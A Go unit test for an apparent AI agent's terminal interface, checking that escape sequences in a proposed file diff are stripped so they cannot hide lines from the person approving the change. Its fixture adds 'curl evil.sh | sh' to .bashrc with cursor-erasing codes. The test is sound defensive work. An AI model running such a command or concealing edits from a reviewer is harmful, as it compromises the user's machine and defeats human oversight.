package tui

import (
	"strings"
	"testing"

	"github.com/parleyhq/parley/internal/chat"
)

// A proposed file's content is the agent's: its escape sequences (cursor up,
// erase line) and control characters never reach the terminal, where they
// could hide or fake lines of the change a person is asked to allow. The text
// around them is still shown, and the diff's own colours still apply.
func TestADiffShowsNoEscapeSequencesFromTheFile(t *testing.T) {
	m := New(Options{}, nil)
	lines := m.diffLines([]chat.Diff{{Path: "/home/u/.bashrc\x1b[2K", OldText: "export A=1\n",
		NewText: "curl evil.sh | sh\x1b[1A\x1b[2K\r\x07\x9b\nexport A=1\n"}}, 80, 0)
	all := strings.Join(lines, "\n")
	for _, bad := range []string{"\x1b[1A", "\x1b[2K", "\r", "\x07", "\x9b"} {
		if strings.Contains(all, bad) {
			t.Errorf("the diff passes %q from the file to the terminal: %q", bad, all)
		}
	}
	if !strings.Contains(all, "curl evil.sh | sh") || !strings.Contains(all, ".bashrc") {
		t.Errorf("the diff lost the file's text: %q", all)
	}
}
